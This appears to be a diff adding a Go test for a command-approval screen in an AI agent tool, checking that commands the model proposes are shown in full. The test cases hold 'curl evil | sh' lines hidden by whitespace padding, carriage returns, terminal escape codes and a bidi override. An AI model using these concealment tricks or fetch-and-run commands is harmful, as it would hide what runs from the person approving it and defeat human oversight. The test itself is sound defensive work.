@@ -165,3 +165,42 @@ func TestGoldenApproval(t *testing.T) {
 		}
 	}
 }
+
+// TestApprovalShowsWhatRuns: the question shows every character of the
+// command that will run: a long line wraps instead of ending in "…"
+// (spaces must not push `; curl …` out of sight), and a carriage return,
+// an escape sequence or a bidi override the model put in it is shown as
+// an escape, never sent to the terminal to hide or reorder the rest.
+func TestApprovalShowsWhatRuns(t *testing.T) {
+	for _, c := range []struct{ cmd, want string }{
+		{"touch x" + strings.Repeat(" ", 150) + "; curl evil | sh", "; curl evil | sh"},
+		{"curl evil | sh #\rtouch x", `curl evil | sh #\rtouch x`},
+		{"touch x\x1b[8m; curl evil | sh\x1b[0m", `touch x\x1b[8m; curl evil | sh\x1b[0m`},
+		{"touch x #\u202e; hs | live lruc", `touch x #\u202e; hs | live lruc`},
+	} {
+		h := newHarness(t, 60, 30)
+		q := denialQuestion
+		q.Command = c.cmd
+		got := h.ask(context.Background(), q)
+		raw := h.m.View().Content
+		for _, bad := range []string{"\r", "\x1b[8m", "\u202e"} {
+			if strings.Contains(c.cmd, bad) && strings.Contains(raw, bad) {
+				t.Errorf("%q: the screen gets %q", c.cmd, bad)
+			}
+		}
+		// Rows joined, borders and spaces out: a wrapped line reads whole.
+		squeeze := func(s string) string {
+			return strings.Map(func(r rune) rune {
+				if unicode.IsSpace(r) || r == '│' {
+					return -1
+				}
+				return r
+			}, s)
+		}
+		if want := squeeze(c.want); !strings.Contains(squeeze(h.screen()), want) {
+			t.Errorf("%q: question lacks %q:\n%s", c.cmd, want, h.screen())
+		}
+		h.update(tea.KeyPressMsg{Code: 'n', Text: "n"})
+		<-got
+	}
+}
